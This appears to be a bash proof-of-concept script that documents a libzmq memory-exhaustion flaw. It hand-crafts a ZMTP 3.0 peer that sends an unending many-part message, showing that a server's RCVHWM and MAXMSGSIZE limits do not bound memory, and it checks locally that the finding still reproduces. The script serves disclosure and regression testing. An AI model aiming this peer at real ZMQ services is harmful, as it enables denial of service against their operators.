#!/usr/bin/env bash
# libzmq 4.3.5 (pyzmq 27.3.0): no option limits what one peer makes a socket keep, because ZMQ_RCVHWM counts whole messages, and
# ZMQ_MAXMSGSIZE the bytes of one part of a message.
#
# A server that sets both, for example to 10 messages of 1 MiB, looks bounded by about 10 MiB for each peer. But a message may have
# any number of parts, and is delivered with its last one alone. Until then libzmq keeps the parts, and the application sees nothing:
# the socket is not readable, so that no budget of the application can end the connection. A peer that never sends a last part makes
# the server grow until the kernel kills it. It is the same under CURVE, for a peer that is admitted, and a peer that uses libzmq
# itself gets as far with one message of many parts.
#
# Seen, with both options set and a server that reads nothing:
#   300 messages of 1 MiB: 11 MiB more
#   1 message of 300 parts that does not end: 300 MiB more, readable: no
set -euo pipefail
[ "$(uname -s)" = Linux ] || { echo "The finding is about Linux."; exit 1; }
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
python3 -m venv environment
environment/bin/pip install --quiet --disable-pip-version-check pyzmq==27.3.0
cat > server.py <<'PYTHON'
import socket
import struct
import sys

import zmq

MIB = 1 << 20


def resident():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) // 1024 for line in status if line.startswith("VmRSS"))


def receive(connection, count):
    received = b""
    while len(received) < count:
        received += connection.recv(count - len(received))
    return received


# A server with both limits, which reads nothing.
server = zmq.Context().socket(zmq.ROUTER)
server.rcvhwm = 10
server.maxmsgsize = MIB
port = server.bind_to_random_port("tcp://127.0.0.1")

# A peer that speaks ZMTP 3.0 by hand: greeting, READY, then frames (RFC 23).
peer = socket.create_connection(("127.0.0.1", port))
peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
receive(peer, 64)
ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
peer.sendall(b"\x04" + bytes([len(ready)]) + ready)
receive(peer, receive(peer, 2)[1])

has_more = sys.argv[1] == "parts"
frame = bytes([0x03 if has_more else 0x02]) + struct.pack(">Q", MIB) + bytes(b"x" * MIB)
before = resident()
peer.settimeout(3)
try:
    for _ in range(300):
        peer.sendall(frame)
except socket.timeout:
    pass  # the server takes no more
readable = server.poll(1000) != 0
print(zmq.zmq_version(), resident() - before, "yes" if readable else "no")
PYTHON
read -r version whole _ <<< "$(environment/bin/python server.py messages)"
read -r _ parts readable <<< "$(environment/bin/python server.py parts)"
echo "libzmq $version"
echo "300 messages of 1 MiB: $whole MiB more"
echo "1 message of 300 parts that does not end: $parts MiB more, readable: $readable"
[ "$whole" -lt 60 ] || { echo "changed: the limits do not bound whole messages either"; exit 1; }
[ "$parts" -gt 250 ] || { echo "changed: the parts of a message are bounded"; exit 1; }
[ "$readable" = no ] || { echo "changed: an unfinished message makes the socket readable"; exit 1; }
